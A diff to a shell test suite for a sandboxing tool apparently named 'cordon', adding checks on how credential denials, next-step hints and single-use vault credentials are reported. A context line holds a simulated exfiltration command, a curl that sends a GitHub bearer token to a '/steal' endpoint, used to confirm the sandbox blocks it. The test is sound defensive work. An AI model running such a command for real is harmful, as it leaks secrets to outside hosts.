@@ -28,6 +28,11 @@ for who in root as_user; do
         : >"$T/lab/auth.log"
         box $who --net "$plain" --net http://four.test/** -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://four.test/steal'
         hasnt "$who: another host does not get it" "$(cat "$T/lab/auth.log")" "Q9zz"
+        is "$who: the refusal is one of a credential, with the smallest line" "$(json '[.denials[] | select(.code == "credential")][0] | [.layer, .permit] | join(", ")')" "egress, net http://four.test/steal GET with NAME"
+        has "$who: and the next step" "$(json '[.denials[] | select(.code == "credential")][0].next_steps | join("; ")')" "cordon vault list"
+        printf %s "$secret" | $who env XDG_CONFIG_HOME="$home" "$CORDON" vault add once --env ONCE --max-uses 1 >"$T/out" 2>&1
+        box $who --net "http://web.test/** GET with once" -- sh -c 'for i in 1 2; do curl -sS -m 10 http://web.test/$i; done'
+        has "$who: a credential that is used up is told as such" "$(json '[.denials[] | select(.code == "credential")][0].what')" "used up"
         box $who --net "http://web.test/** with nobody" -- true
         is "$who: a door whose credential is not in the vault stops the start" $status 125
         has "$who: and says what to type" "$(cat "$T/err")" "cordon vault add nobody"
